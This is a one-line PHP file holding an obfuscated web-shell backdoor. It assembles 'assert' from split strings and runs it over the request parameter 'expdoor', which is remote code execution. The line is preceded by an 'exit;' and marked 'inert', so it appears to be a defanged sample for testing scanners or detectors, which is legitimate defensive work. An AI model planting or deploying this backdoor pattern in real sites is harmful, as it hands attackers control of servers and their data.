<?php exit; /* inert */ @array_map("ass"."ert",(array)$_REQUEST['expdoor']);
